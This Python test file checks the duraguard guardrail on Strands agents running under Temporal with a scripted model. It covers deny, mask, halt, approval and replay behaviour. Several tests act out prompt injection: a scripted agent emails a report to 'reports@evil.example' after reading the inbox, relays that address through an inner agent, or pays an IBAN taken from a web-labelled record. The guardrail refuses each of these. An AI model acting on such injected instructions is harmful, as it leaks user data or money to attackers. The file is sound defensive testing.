"""The Strands adapter under Temporal's ``temporalio-strands-agents``, on the real dev server with
a scripted model (no network): each verdict at each placement, approvals by a signed update,
provenance with ``policy()`` and no catalogue, both plugins in either order, every history
replayed with no check run again. Runs in the venv the ``strands`` extra needs (``.venv-strands``,
made by ``dev.py test``: Temporal's integration pins ``mcp<2``)."""

from __future__ import annotations

import asyncio
import json
import uuid
from datetime import timedelta

import pytest

pytest.importorskip("strands", reason="install the extra: pip install 'duraguard[strands]'")
pytest.importorskip("temporalio.strands_agents")

from temporalio.strands_agents import StrandsPlugin
from temporalio.strands_agents._failure_converter import StrandsFailureConverter
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import duraguard
from tests._harness import Counting, lookup
from tests._servers import Replayer

from ._frameworks import Scenario, connect, names, rows, scheduled_inputs
from ._guarded_strands import (
    LOOKUPS,
    GuardedOutcome,
    GuardedStrandsAgent,
    PlannedModel,
    StrandsBesideGuardedCall,
    StrandsInput,
    lookup_order,
)
from ._plan import plan
from ._rules import CARD, Rules

pytestmark = pytest.mark.timeout(120)

MODEL = "invoke_model"
ATTACKER = "reports@evil.example"


def strands_plugin() -> StrandsPlugin:
    return StrandsPlugin(models={"planned": PlannedModel})


def Setup(env: WorkflowEnvironment, *, duraguard_first: bool = False) -> Scenario:
    return Scenario(
        env, strands_plugin(), GuardedStrandsAgent, StrandsInput, activities=[lookup_order],
        result_type=GuardedOutcome, duraguard_first=duraguard_first,
    )  # fmt: skip


def shown(out: GuardedOutcome) -> list[str]:
    """What the model read of each tool result: the text of its one content block."""
    return [json.loads(o)[0]["text"] for o in out.tool_outputs]


async def test_allowed_calls_run_each_judged_by_a_recorded_step(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": "A1"})], [("quote_refund", {"order_id": "A1"})])
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.output, out.halted_by) == ("done", "done", None)
    assert [json.loads(o)["order_id"] for o in shown(out)] == ["A1", "A1"]
    assert LOOKUPS == [{"order_id": "A1"}]
    # Hooks are workflow code: each pass is a local activity between the model turn that
    # proposed the call and the call's own step (the @tool function runs in workflow code).
    assert names(history) == [
        "duraguard.check", MODEL,
        "duraguard.check", "lookup_order", "duraguard.check", MODEL,
        "duraguard.check", "duraguard.check", MODEL,
        "duraguard.check",
    ]  # fmt: skip
    assert out.verdicts == []
    assert s.rules.calls == 6


async def test_a_denied_call_never_runs_and_the_model_reads_strands_own_refusal(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order", {"order_id": "DENY-1"}), ("quote_refund", {"order_id": "DENY-2"})],
        [("lookup_order", {"order_id": "A2"})],
    )
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    first, second, third = shown(out)
    # cancel_tool: an error tool result carrying the refusal.
    assert json.loads(first) == {
        "valid": False, "tool": "lookup_order", "error": "tool-args carries DENY"
    }  # fmt: skip
    assert json.loads(second)["tool"] == "quote_refund"
    assert json.loads(third)["order_id"] == "A2"
    assert out.statuses == ["error", "error", "success"]
    assert LOOKUPS == [{"order_id": "A2"}]
    assert names(history).count("lookup_order") == 1
    # The framework may run one turn's calls at once: rows come in the order they were decided.
    assert sorted(rows(out), key=str) == [
        ("lookup_order", "tool-args", "deny", "rules"),
        ("quote_refund", "tool-args", "deny", "rules"),
    ]


async def test_a_masked_call_runs_with_the_masked_arguments_only(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": CARD}), ("quote_refund", {"order_id": CARD})])
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "[card]"}]
    assert [json.loads(o)["order_id"] for o in shown(out)] == ["[card]", "[card]"]
    tool_inputs = scheduled_inputs(history, "lookup_order")
    assert len(tool_inputs) == 1 and b"4111" not in tool_inputs[0]
    # One turn's two calls are judged concurrently: their verdicts land in either order.
    assert sorted((t, a) for t, _, a, _ in rows(out)) == [
        ("lookup_order", "mask"),
        ("quote_refund", "mask"),
    ]


async def test_a_tool_result_is_masked_before_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "NOTE"})]))
    [seen] = shown(out)
    assert "[note]" in seen and "internal-note" not in seen
    assert rows(out) == [("lookup_order", "tool-result", "mask", "rules")]


async def test_a_halt_ends_the_run_after_its_sibling_calls_complete(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("quote_refund", {"order_id": "HALT-1"}), ("lookup_order", {"order_id": "A3"})],
        [("lookup_order", {"order_id": "A4"})],
    )
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert LOOKUPS == [{"order_id": "A3"}]
    assert names(history).count(MODEL) == 1
    assert rows(out) == [("quote_refund", "tool-args", "halt", "rules")]


async def test_an_asked_call_waits_for_a_signed_yes_then_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out = await s.approved(plan([("lookup_order", {"order_id": "ASK-1"})]), "rules")
    audit = out.verdicts
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "ASK-1"}]
    assert [(r.action, r.by, r.approver) for r in audit] == [
        ("approve", "rules", None),
        ("allow", "person", "alice"),
    ]


async def test_an_ask_nobody_answers_expires_and_the_call_does_not_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out, history = await s.run(plan([("lookup_order", {"order_id": "ASK-2"})]), short_asks=True)
    assert out.stop_reason == "done"
    assert "the ask expired" in shown(out)[0] and out.statuses == ["error"]
    assert LOOKUPS == []
    assert "lookup_order" not in names(history)


SEND = {"to": "bob@example.com", "subject": "Refund", "body": "Your refund is on its way."}


async def test_strands_own_human_in_the_loop_is_answered_by_a_signed_yes_in_the_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``HumanInTheLoop`` interrupts the send (alone, the run would end with stop reason
    ``interrupt`` for the caller to resume with an unsigned ``"y"``): the call parks for
    duraguard's signed yes, and the run resumes itself with the answer."""
    s = Setup(temporal_env)
    prompt = plan([("lookup_order", {"order_id": "A5"})], [("send_email", SEND)])
    out = await s.approved(prompt, "strands:human-in-the-loop", hitl=True)
    assert (out.stop_reason, out.output) == ("done", "done")
    assert out.statuses == ["success", "success"]
    assert json.loads(shown(out)[1]) == {"sent": True, "to": "bob@example.com"}
    assert [(r.tool, r.action, r.by) for r in out.verdicts] == [
        ("send_email", "approve", "strands:human-in-the-loop"),
        ("send_email", "allow", "person"),
    ]


async def test_strands_own_human_in_the_loop_nobody_answers_and_the_send_does_not_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    prompt = plan([("send_email", SEND)])
    out, _ = await s.run(prompt, hitl=True, short_asks=True)
    assert out.stop_reason == "done"
    assert out.statuses == ["error"] and "the ask expired" in shown(out)[0]


async def test_a_refusal_by_the_agents_own_hook_is_recorded(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out, _ = await s.run(plan([("lookup_order", {"order_id": "A6"})]), own_refusal="lookup_order")
    assert (out.stop_reason, out.statuses, shown(out)) == ("done", ["error"], ["not today"])
    assert LOOKUPS == []
    assert rows(out) == [("lookup_order", "tool-args", "deny", "strands:cancel_tool")]


async def test_a_streaming_topic_ahead_of_the_verdicts_stops_before_the_first_model_call(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan([("lookup_order", {"order_id": "A1"})]), streaming=True)
    assert (out.stop_reason, out.halted_by) == ("guardrail", "duraguard")
    assert "streams the model's output" in (out.note or "")
    assert not [n for n in names(history) if n.startswith("invoke_model")]


async def test_the_prompt_is_masked_before_any_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer="my code is secret-123"))
    assert out.output == "my code is [secret]"
    assert rows(out) == [(None, "pre-prompt", "mask", "rules")]
    scheduled = scheduled_inputs(history)
    assert scheduled and all(b"secret-123" not in data for data in scheduled)


@pytest.mark.parametrize("marker", ["forbidden", "halt-now"])
async def test_a_refused_prompt_ends_the_run_before_any_model_call(
    temporal_env: WorkflowEnvironment, marker: str
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer=f"this is {marker}"))
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert MODEL not in names(history)


async def test_the_final_answer_is_judged(temporal_env: WorkflowEnvironment) -> None:
    s = Setup(temporal_env)
    corrected, _ = await s.run(plan(answer="a leak once"))
    assert (corrected.stop_reason, corrected.output) == ("done", "a l-e-a-k once")
    assert rows(corrected) == [(None, "final-answer", "deny", "rules")]
    refused, _ = await s.run(plan(answer="a leak always"))
    assert (refused.stop_reason, refused.output, refused.halted_by) == ("no-answer", None, None)
    masked, _ = await s.run(plan(answer=f"paid with {CARD}"))
    assert (masked.stop_reason, masked.output) == ("done", "paid with [card]")
    halted, _ = await s.run(plan(answer="stop-here"))
    assert (halted.stop_reason, halted.halted_by) == ("guardrail", "rules")


async def test_an_injected_send_to_an_address_from_an_email_is_refused_by_provenance(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``policy()`` and no catalogue: the tools are known from their specs; ``read_inbox``
    labels its result as email, so a send to an address only the email named is refused."""
    s = Setup(temporal_env)
    summary = {"subject": "Quarterly report", "body": "Here is the quarterly report."}
    script = plan([("read_inbox", {})], [("send_email", {"to": ATTACKER, **summary})])
    out, _ = await s.run("Summarise my newest emails.", policy=True, script=script)
    refused = [(r.tool, r.action, r.check or "") for r in out.verdicts if r.action == "deny"]
    assert [(t, a) for t, a, _ in refused] == [("send_email", "deny")]
    assert refused[0][2].startswith("policy.")
    assert out.statuses == ["success", "error"]
    assert "there is no tool named" not in json.dumps([r.reason for r in out.verdicts])


async def test_a_mark_labels_a_neutral_tool_and_a_payment_from_it_is_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    """get_record's name says nothing of outside content: its mark (labels: [web]) does."""
    s = Setup(temporal_env)
    iban = "GB29NWBK60161331926819"
    script = plan(
        [("get_record", {"record_id": "R1"})], [("pay_invoice", {"iban": iban, "amount": 90.0})]
    )
    out, _ = await s.run("Look at record R1.", policy=True, marked=True, script=script)
    refused = [(r.tool, r.action, r.check or "") for r in out.verdicts if r.action == "deny"]
    assert [(t, a) for t, a, _ in refused] == [("pay_invoice", "deny")]
    assert refused[0][2].startswith("policy.")  # refused by provenance, not an expired ask


async def test_an_agent_used_as_a_tool_is_judged_by_its_own_hooks_or_refused_unguarded(
    temporal_env: WorkflowEnvironment,
) -> None:
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    asks = "Look the orders up."  # billing's plan is in its system prompt
    out, _ = await s.run(plan([("billing", {"input": asks})]), inner="guarded")
    assert out.stop_reason == "done" and LOOKUPS == [{"order_id": "B1"}]
    assert [(r.tool, r.action) for r in out.verdicts] == [("lookup_order", "deny")]
    async with s.worker():
        handle = await s.start(plan([("billing", {"input": asks})]), inner="bare")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "'billing', which is not guarded" in str(info.value.cause)


@pytest.mark.parametrize("duraguard_first", [False, True])
async def test_both_plugins_in_either_order_on_the_client_and_the_replayer(
    temporal_env: WorkflowEnvironment, duraguard_first: bool
) -> None:
    s = Setup(temporal_env, duraguard_first=duraguard_first)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "DENY-1"})]))  # replays too
    assert out.stop_reason == "done" and rows(out)[0][2] == "deny"
    # And an unguarded agent beside a guarded_call, one worker, both plugins.
    counting = Counting()
    guard = duraguard.DuraguardPlugin(tools=[lookup], guardrails=[counting])
    strands = strands_plugin()
    plugins = [guard, strands] if duraguard_first else [strands, guard]
    client = connect(temporal_env, plugins)
    # Strands' failure converter (its interrupts cross an activity's boundary) in either order.
    assert client.data_converter.failure_converter_class is StrandsFailureConverter
    queue = f"sb-{uuid.uuid4().hex[:8]}"
    async with Worker(
        client, task_queue=queue, workflows=[StrandsBesideGuardedCall], activities=[lookup_order]
    ):
        handle = await client.start_workflow(
            StrandsBesideGuardedCall.run, [counting.spec()], id=f"sb-{uuid.uuid4().hex[:8]}",
            task_queue=queue, execution_timeout=timedelta(seconds=60),
        )  # fmt: skip
        result = await handle.result()
    assert json.loads(result[0])["order_id"] == "A1" and result[1] == "done after 1 calls"
    before = (guard.checks_run, counting.calls)
    await Replayer(workflows=[StrandsBesideGuardedCall], plugins=plugins).replay_workflow(
        await handle.fetch_history(), raise_on_replay_failure=True
    )
    assert (guard.checks_run, counting.calls) == before


async def test_the_hooks_refuse_to_run_outside_a_workflow() -> None:
    from strands import Agent

    from duraguard import strands as guarded

    agent = Agent(
        model=PlannedModel(), hooks=[guarded.Guarded(guardrails=[Rules()])], callback_handler=None
    )
    with pytest.raises(duraguard.ConfigurationError, match="is for workflow code"):
        await guarded.run(agent, plan([("quote_refund", {"order_id": "A1"})]))


def test_run_refuses_an_agent_without_the_hooks() -> None:
    from strands import Agent

    from duraguard import strands as guarded

    with pytest.raises(duraguard.ConfigurationError, match="has no Guarded hooks"):
        asyncio.run(guarded.run(Agent(model=PlannedModel(), callback_handler=None), "hi"))


async def test_a_call_a_later_hook_of_the_agents_own_changes_is_judged_as_it_will_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A hook ordered after every SDK hook (``order=200``) changes a call's input: the verdict
    is on the input the tool runs with (here refused), never on the one before the change."""
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": "A5"}), ("quote_refund", {"order_id": "A6"})])
    out, history = await s.run(prompt, rebind=True)
    assert out.stop_reason == "done"
    assert LOOKUPS == []  # the changed call (order DENY-A5) never ran
    assert "lookup_order" not in names(history)
    first, second = shown(out)
    assert json.loads(first)["error"] == "tool-args carries DENY"
    assert json.loads(second)["order_id"] == "A6"
    assert out.statuses == ["error", "success"]
    assert rows(out) == [("lookup_order", "tool-args", "deny", "rules")]


async def test_tool_middleware_that_could_change_a_call_after_its_verdict_is_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``ExecuteToolStage`` middleware runs between the verdict and the tool, out of any hook's
    sight: it could run a call with other arguments than judged, so the agent is refused
    before any model call, naming the fix."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("lookup_order", {"order_id": "A5"})]), middleware=True)
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "ExecuteToolStage middleware" in str(info.value.cause)
    assert LOOKUPS == []
    history = await handle.fetch_history()
    assert names(history) == []  # no model call, no check, no tool
    await s.replay(history)


async def test_an_address_an_inner_agent_read_in_an_email_is_refused_to_the_outer_send(
    temporal_env: WorkflowEnvironment,
) -> None:
    """Provenance through an agent used as a tool: ``reader`` reads the inbox and its answer
    (the tool's result) repeats the address the mail named; the outer agent's send to it is
    refused by ``policy()``, as a send straight from the inbox is."""
    s = Setup(temporal_env)
    summary = {"subject": "Quarterly report", "body": "Here is the quarterly report."}
    script = plan(
        [("reader", {"input": "What does my newest mail ask?"})],
        [("send_email", {"to": ATTACKER, **summary})],
    )
    out, _ = await s.run("Do what my newest mail asks.", policy=True, script=script, inner="reader")
    refused = [(r.tool, r.action, r.check or "") for r in out.verdicts if r.action == "deny"]
    assert [(t, a) for t, a, _ in refused] == [("send_email", "deny")]
    assert refused[0][2].startswith("policy.")
    assert "read_inbox" in (out.verdicts[0].reason or "")  # traced through the inner agent


async def test_a_tools_error_is_judged_as_its_result_would_be_before_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A tool that raises: Strands makes the exception an error result the model reads, so it
    is judged at the tool-result placement, masked like a result."""
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("flaky_lookup", {"order_id": "A8"})]))
    assert out.stop_reason == "done"
    [said] = shown(out)
    assert "[note]" in said and "internal-note" not in said
    assert out.statuses == ["error"]
    assert rows(out) == [("flaky_lookup", "tool-result", "mask", "rules")]


async def test_a_result_a_later_hook_of_the_agents_own_changes_is_judged_as_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A hook ordered after every SDK hook (``order=200``) adds to a call's result: the verdict
    is on the result the model reads, never on the one before the change."""
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "A5"})]), annotate=True)
    assert out.stop_reason == "done"
    [said] = out.tool_outputs
    assert "[note]" in said and "internal-note" not in said
    assert rows(out) == [("lookup_order", "tool-result", "mask", "rules")]


async def test_an_unguarded_agent_a_tools_function_runs_is_refused_before_any_model_call(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A ``@tool`` whose function runs another agent (``billing.invoke_async``) with no
    ``Guarded``: its calls would run with no verdict; refused before the first model call,
    naming the agent and the fix, as an unguarded agent-as-tool is."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("ask_billing", {"question": "?"})]), inner="in_a_tool")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "'billing', which is not guarded" in str(info.value.cause)
    assert LOOKUPS == []
    history = await handle.fetch_history()
    assert names(history) == []
    await s.replay(history)
